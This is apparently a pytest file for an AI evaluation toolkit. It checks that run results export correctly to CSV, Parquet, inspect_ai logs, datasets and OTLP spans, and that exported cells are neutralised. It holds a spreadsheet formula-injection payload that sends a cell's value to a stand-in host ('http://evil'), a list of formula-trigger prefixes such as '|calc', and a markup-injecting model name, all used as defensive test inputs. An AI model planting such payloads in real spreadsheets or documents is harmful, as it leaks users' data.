"""Exports, read by those they are for: csv, pyarrow, inspect_ai, datasets, OTLP. Errors and epochs are kept."""

import base64
import csv
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from evalkit.core.decision import Decision, Guarded
from evalkit.core.types import Message, RunSpec, ToolCall, Trajectory
from evalkit.engine import store
from evalkit.engine.exports import hub, inspectlog, spans, tables
from evalkit.engine.store import RunFolder
from tests.runs import SECRET, played

FORMULA = f'=HYPERLINK("http://evil?"&A1,"{SECRET}")'


@pytest.fixture
def run(tmp_path):
    """Two epochs of three scenarios: told and not, one answer missing, one that calls a tool with broken arguments."""
    path = played(tmp_path / "r", [[True, False], [None, True], [False, False]], answer=FORMULA)
    with RunFolder.open(path, RunSpec.model_validate(store.manifest(path)["spec"])) as folder:
        calls = (ToolCall(id="c1", name="look", arguments='{"x": 1}'), ToolCall(id="c2", name="look", arguments="{x"))
        messages = (
            Message(role="assistant", tool_calls=calls),
            Message(role="tool", content="@here", tool_call_id="c1"),
            Message(role="assistant", content="done"),
        )
        folder.append(Trajectory(scenario_id="s/2", epoch=1, target="m", messages=messages, stop="stop"), [])
    return path


def read(path):
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def test_csv_has_every_sample_epoch_error_and_span(run, tmp_path):
    out = tmp_path / "csv"
    out.mkdir()
    assert [p.name for p in tables.write_csv(run, out)] == [f"{t}.csv" for t in tables.TABLES]
    samples = read(out / "samples.csv")
    assert [(r["scenario_id"], r["epoch"]) for r in samples] == [(f"s/{i}", e) for i in range(3) for e in "01"]
    lost = samples[2]
    assert (lost["failure"], lost["failure_message"], lost["answer"]) == ("timeout", "no answer in time", "")
    told = [r for r in read(out / "verdicts.csv") if r["outcome"] == "violation"]
    at = FORMULA.index(SECRET)
    assert json.loads(told[0]["evidence"]) == [{"message": 0, "start": at, "end": at + 6, "quote": SECRET}]
    metrics = {(r["name"], r["slice"]): r for r in read(out / "metrics.csv")}
    assert metrics["leakage_rate", "{}"]["n"] == "5"
    assert metrics["leakage_rate", "{}"]["errors"] == "1"


def test_no_cell_of_the_csv_is_a_formula(run, tmp_path):
    tables.write_csv(run, tmp_path)
    samples = read(tmp_path / "samples.csv")
    assert samples[0]["answer"] == "'" + FORMULA
    cells = [c for t in tables.TABLES for row in read(tmp_path / f"{t}.csv") for c in row.values()]
    assert not [c for c in cells if c.lstrip().startswith(("=", "+", "@", "-"))]


@given(st.text(max_size=30))
def test_inert_text_begins_no_formula_and_is_the_text(value):
    found = tables.inert(value)
    assert not found.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
    assert found in (value, f"'{value}")


@pytest.mark.parametrize("value", ["=1", " =1", "+1", "-1", "@x", "\t=1", "\r\n=1", "＝1", "|calc", "%0A"])
def test_what_a_spreadsheet_runs_is_quoted(value):
    assert tables.inert(value) == f"'{value}"


def test_parquet_has_the_text_as_it_is_and_nested_records(run, tmp_path):
    parquet = pytest.importorskip("pyarrow.parquet", reason="pyarrow is not installed")
    tables.write_parquet(run, tmp_path)
    samples = parquet.read_table(tmp_path / "samples.parquet").to_pylist()
    assert samples[0]["answer"] == FORMULA
    assert (samples[2]["failure"], samples[2]["answer"], samples[2]["epoch"]) == ("timeout", None, 0)
    assert samples[5]["messages"][0]["tool_calls"][1] == {"id": "c2", "name": "look", "arguments": "{x"}
    assert samples[0]["cost"] == 0.001
    verdicts = parquet.read_table(tmp_path / "verdicts.parquet").to_pylist()
    assert {v["evidence"][0]["quote"] for v in verdicts if v["outcome"] == "violation"} == {SECRET}
    contexts = parquet.read_table(tmp_path / "contexts.parquet").to_pylist()
    assert [c["id"] for c in contexts] == ["c"]


def test_an_empty_run_has_empty_tables(tmp_path):
    parquet = pytest.importorskip("pyarrow.parquet", reason="pyarrow is not installed")
    path = played(tmp_path / "r", [], summary=False)
    tables.write_parquet(path, tmp_path)
    assert parquet.read_table(tmp_path / "samples.parquet").num_rows == 0
    assert parquet.read_table(tmp_path / "metrics.parquet").column_names == list(tables.METRICS)


def test_inspect_ai_reads_its_log(run, tmp_path):
    log = pytest.importorskip("inspect_ai.log", reason="inspect_ai is not installed")
    found = log.read_eval_log(str(inspectlog.write(run, tmp_path / "log.json")))
    assert (found.status, found.eval.task, found.eval.model, found.version) == ("success", "copriva", "m", 2)
    assert [(s.id, s.epoch) for s in found.samples] == [(f"s/{i}", e) for i in range(3) for e in (1, 2)]
    told, lost, called = found.samples[0], found.samples[2], found.samples[5]
    assert told.scores["non_disclosure"].value == "I"
    verdict = told.scores["non_disclosure"].metadata["verdicts"][0]
    assert verdict["evidence"][0]["quote"] == SECRET
    assert found.samples[1].scores["non_disclosure"].value == "C"
    assert lost.error.message == "timeout (target): no answer in time"
    assert not lost.scores
    assert SECRET in told.input[1].content  # the document stands in its place
    first, second = called.messages[2].tool_calls
    assert (first.function, first.arguments) == ("look", {"x": 1})
    assert second.parse_error.endswith("{x")
    rates = {s.name: s.metrics["rate"].value for s in found.results.scores}
    assert rates["leakage_rate"] == store.summary(run)["metrics"][0]["value"]


def test_inspect_ai_counts_what_the_run_counts(run, tmp_path):
    log = pytest.importorskip("inspect_ai.log", reason="inspect_ai is not installed")
    header = log.read_eval_log(str(inspectlog.write(run, tmp_path / "log.json")), header_only=True)
    assert (header.results.total_samples, header.results.completed_samples) == (6, 6)
    assert header.stats.model_usage["m"].input_tokens == 54


def test_datasets_loads_the_folder(run, tmp_path, monkeypatch):
    datasets = pytest.importorskip("datasets", reason="datasets is not installed")
    out = tmp_path / "hf"
    hub.write(run, out)
    rows = datasets.load_dataset(str(out), "samples", cache_dir=str(tmp_path / "cache"))["train"]
    assert rows.num_rows == 6
    assert rows[0]["answer"] == FORMULA
    verdicts = datasets.load_dataset(str(out), "verdicts", cache_dir=str(tmp_path / "cache"))["train"]
    assert set(verdicts["outcome"]) == {"violation", "compliant"}


def test_the_card_has_the_numbers_and_a_header_that_is_yaml(run, tmp_path):
    import yaml

    hub.write(run, tmp_path / "hf")
    head, _, text = (tmp_path / "hf/README.md").read_text().removeprefix("---\n").partition("---\n")
    found = yaml.safe_load(head)
    assert [c["config_name"] for c in found["configs"]] == list(tables.TABLES)
    assert found["license"] == "apache-2.0"
    assert "errors: 1 timeout" in text
    assert "| leakage_rate |  | 0.4000 |" in text


def test_a_hostile_model_name_is_plain_text_in_the_card(tmp_path):
    path = played(tmp_path / "r", [True], model="[x](http://evil) <b>\n# head")
    hub.write(path, tmp_path / "hf")
    text = (tmp_path / "hf/README.md").read_text()
    body = text.split("---\n", 2)[2]
    assert "\\[x\\]\\(http" in body
    assert "\n# head" not in body


def spans_of(path):
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    return [s for line in lines for r in line["resourceSpans"] for x in r["scopeSpans"] for s in x["spans"]]


def value(span, key):
    found = next((a["value"] for a in span["attributes"] if a["key"] == key), {})
    return next(iter(found.values()), None)


def test_spans_have_a_trace_for_each_sample_with_its_verdicts_and_calls(run, tmp_path):
    found = spans_of(spans.write(run, tmp_path / "s.jsonl"))
    samples = [s for s in found if "parentSpanId" not in s]
    assert [(value(s, "evalkit.scenario"), value(s, "evalkit.epoch")) for s in samples] == [
        (f"s/{i}", str(e)) for i in range(3) for e in range(2)
    ]
    assert len({s["traceId"] for s in samples}) == 6
    assert all(len(s["traceId"]) == 32 and len(s["spanId"]) == 16 for s in found)
    told, lost = samples[0], samples[2]
    assert int(told["endTimeUnixNano"]) - int(told["startTimeUnixNano"]) == 250_000_000
    labels = [value(e, "gen_ai.evaluation.score.label") for e in told["events"]]
    assert labels == ["violation", "compliant"]
    assert (lost["status"]["code"], value(lost, "error.type")) == (2, "timeout")
    calls = [s for s in found if s.get("parentSpanId") == samples[5]["spanId"]]
    assert [s["name"] for s in calls] == ["execute_tool look"] * 2
    assert value(samples[5], "gen_ai.operation.name") == "invoke_agent"


def test_what_was_said_is_in_the_spans_only_when_asked_for(run, tmp_path):
    without = spans.write(run, tmp_path / "a.jsonl").read_text()
    assert "HYPERLINK" not in without
    told = spans_of(spans.write(run, tmp_path / "b.jsonl", content=True))[0]
    said = json.loads(value(told, "gen_ai.output.messages"))
    assert said == [{"role": "assistant", "parts": [{"type": "text", "content": FORMULA}]}]


def test_decisions_of_a_guardrail_are_in_every_form(tmp_path):
    path = played(tmp_path / "r", [False])
    kept = Message(role="assistant", content="It is sesame.")
    decision = Decision(guardrail="small", action="block", policy_id="p0", probability=0.97)
    answer = Trajectory(
        scenario_id="s/0", target="m", messages=(Message(role="assistant", content="No."),),
        guarded=(Guarded(hook="output", message=0, decision=decision, withheld=kept),),
    )  # fmt: skip
    with RunFolder.open(path, RunSpec.model_validate(store.manifest(path)["spec"])) as folder:
        folder.append(answer, [])
    tables.write_csv(path, tmp_path)
    assert json.loads(read(tmp_path / "samples.csv")[0]["guarded"])[0]["withheld"]["content"] == "It is sesame."
    found = json.loads(inspectlog.write(path, tmp_path / "log.json").read_text())
    assert found["samples"][0]["metadata"]["guarded"][0]["decision"]["action"] == "block"
    for content, said in ((False, None), (True, "It is sesame.")):
        event = spans_of(spans.write(path, tmp_path / "s.jsonl", content=content))[0]["events"][0]
        assert (event["name"], value(event, "evalkit.guardrail.action")) == ("evalkit.guardrail.decision", "block")
        assert value(event, "evalkit.guardrail.withheld") == said


def test_opentelemetrys_own_schema_reads_the_spans(run, tmp_path):
    trace = pytest.importorskip("opentelemetry.proto.trace.v1.trace_pb2", reason="opentelemetry-proto is not installed")
    from google.protobuf import json_format

    for line in spans.write(run, tmp_path / "s.jsonl", content=True).read_text().splitlines():
        document = json.loads(line)
        for resource in document["resourceSpans"]:
            for span in resource["scopeSpans"][0]["spans"]:
                for key in ("traceId", "spanId", "parentSpanId"):  # OTLP has them in hex, protobuf's JSON in base64
                    if key in span:
                        span[key] = base64.b64encode(bytes.fromhex(span[key])).decode()
        read = json_format.ParseDict(document, trace.TracesData())
        assert len(read.resource_spans[0].scope_spans[0].spans) == 8
